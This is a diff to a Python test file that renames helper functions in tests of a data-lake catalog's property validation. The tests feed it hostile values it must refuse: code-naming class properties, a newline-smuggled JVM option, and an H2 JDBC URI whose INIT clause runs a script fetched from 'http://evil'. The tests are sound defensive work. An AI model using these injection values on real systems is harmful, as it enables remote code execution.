@@ -14,11 +14,11 @@ from tiering.coordinator.options import CoordinatorOptions
 from tiering.errors import InvalidArgument
 from tiering.lake.catalog_properties import (
     PUBLIC,
+    accepted_properties,
     check_catalog_properties,
     public_properties,
     public_uri,
-    told_properties,
-    with_own_catalog,
+    with_default_catalog,
 )
 from tiering.lake.iceberg.catalogs.opening import VENDED, open_catalog
 from tiering.lake.registry import local_lake_properties
@@ -83,7 +83,7 @@ def test_a_uri_is_shown_without_what_may_be_secret(uri: str, shown: str) -> None
     "name", ["py-catalog-impl", "py-io-impl", "s3.retry-strategy-impl", "io-impl", "catalog-impl", "auth.impl", "PY-IO-IMPL"]
 )
 def test_a_property_that_names_code_is_refused_on_either_side(name: str) -> None:
-    for check in (check_catalog_properties, told_properties, lambda them: CoordinatorOptions(lake_properties=them)):
+    for check in (check_catalog_properties, accepted_properties, lambda them: CoordinatorOptions(lake_properties=them)):
         with pytest.raises(InvalidArgument, match="names code"):
             check({name: "evil_module.Evil"})
 
@@ -91,9 +91,9 @@ def test_a_property_that_names_code_is_refused_on_either_side(name: str) -> None
 @pytest.mark.parametrize("value", ["x\nspark.driver.extraJavaOptions -Devil", "x\r", "x\x00", "x\x85", "x\u2028"])
 def test_a_property_is_on_one_line(value: str) -> None:
     with pytest.raises(InvalidArgument, match="control character"):
-        told_properties({"warehouse": value})
+        accepted_properties({"warehouse": value})
     with pytest.raises(InvalidArgument, match="control character"):
-        told_properties({value: "x"})
+        accepted_properties({value: "x"})
 
 
 @pytest.mark.parametrize(
@@ -110,7 +110,7 @@ def test_a_property_is_on_one_line(value: str) -> None:
 )
 def test_a_uri_for_another_driver_is_refused(kind: str, uri: str) -> None:
     with pytest.raises(InvalidArgument, match="begins with"):
-        told_properties({"type": kind, "uri": uri})
+        accepted_properties({"type": kind, "uri": uri})
 
 
 @pytest.mark.parametrize(
@@ -124,12 +124,12 @@ def test_a_uri_for_another_driver_is_refused(kind: str, uri: str) -> None:
 )
 def test_a_uri_names_a_database_and_no_settings_of_a_jvms_driver(uri: str) -> None:
     with pytest.raises(InvalidArgument, match="more than a database"):
-        told_properties({"type": "sql", "uri": uri})
+        accepted_properties({"type": "sql", "uri": uri})
 
 
 def test_a_kind_that_spark_alone_knows_is_refused() -> None:
     with pytest.raises(InvalidArgument, match="no kind of lake catalog 'jdbc'"):
-        told_properties({"type": "jdbc", "uri": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'"})
+        accepted_properties({"type": "jdbc", "uri": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'"})
 
 
 def test_an_unknown_kind_of_catalog_is_named() -> None:
@@ -180,6 +180,6 @@ def test_the_users_own_configuration_is_read_and_may_name_no_code(tmp_path: Path
 
 def test_a_property_that_names_no_catalog_adds_to_the_folders_own() -> None:
     own = {"type": "sql", "uri": "sqlite:////x/lake-catalog.db", "warehouse": "file:///x/lake"}
-    assert with_own_catalog({}, own) == own
-    assert with_own_catalog({"lakeward.allowed-locations": "file:///y"}, own) == {**own, "lakeward.allowed-locations": "file:///y"}
-    assert with_own_catalog({"uri": "http://catalog"}, own) == {"uri": "http://catalog"}
+    assert with_default_catalog({}, own) == own
+    assert with_default_catalog({"lakeward.allowed-locations": "file:///y"}, own) == {**own, "lakeward.allowed-locations": "file:///y"}
+    assert with_default_catalog({"uri": "http://catalog"}, own) == {"uri": "http://catalog"}
